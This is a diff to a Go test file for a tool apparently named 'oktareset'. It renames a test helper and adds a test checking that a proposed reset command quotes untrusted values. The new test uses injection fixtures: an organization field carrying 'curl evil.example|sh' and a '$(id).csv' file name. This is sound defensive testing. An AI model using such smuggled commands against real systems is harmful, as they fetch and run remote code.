@@ -12,6 +12,8 @@ import (
 	"unicode"
 
 	"oktareset/oktaclient/oktatest"
+	"oktareset/runner"
+	"oktareset/runner/ledger"
 	"oktareset/runner/progress"
 )
 
@@ -147,7 +149,7 @@ func TestHostileServerTexts(t *testing.T) {
 							args[i] = v.path(a)
 						}
 					}
-					stdout := v.run(args...)
+					stdout := v.onTerminal(args...)
 					v.wantHarmless("stdout", stdout)
 					v.wantHarmless("stderr", v.stderr)
 					v.eachFile(func(name string) {
@@ -171,8 +173,8 @@ func TestHostileServerTexts(t *testing.T) {
 	}
 }
 
-// run runs a command line of any kind, with a terminal as stdout, and returns what it wrote there.
-func (v *virtual) run(args ...string) string {
+// onTerminal runs a command line of any kind, with a terminal as stdout, and returns what it wrote there.
+func (v *virtual) onTerminal(args ...string) string {
 	v.t.Helper()
 	args, err := permute(append([]string{"oktareset"}, args...))
 	if err != nil {
@@ -208,5 +210,17 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 		if code != exitUsage || time.Since(start) > 2*time.Second {
 			t.Errorf("%q: exit code %d: %s", args, code, stderr)
 		}
+	}
+}
+
+// A page proposes a command made of a file that somebody else may have made.
+func TestProposedPlanIsQuoted(t *testing.T) {
+	m := ledger.Manifest{
+		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []ledger.Run{{}},
+		Counts: runner.Counts{runner.StatusWouldReset: 2},
+	}
+	want := `oktareset reset --confirm 'x:1;curl evil.example|sh #:2' '$(id).csv'`
+	if got := applyCommand(&m, "$(id).csv"); got != want {
+		t.Errorf("%s, want %s", got, want)
 	}
 }
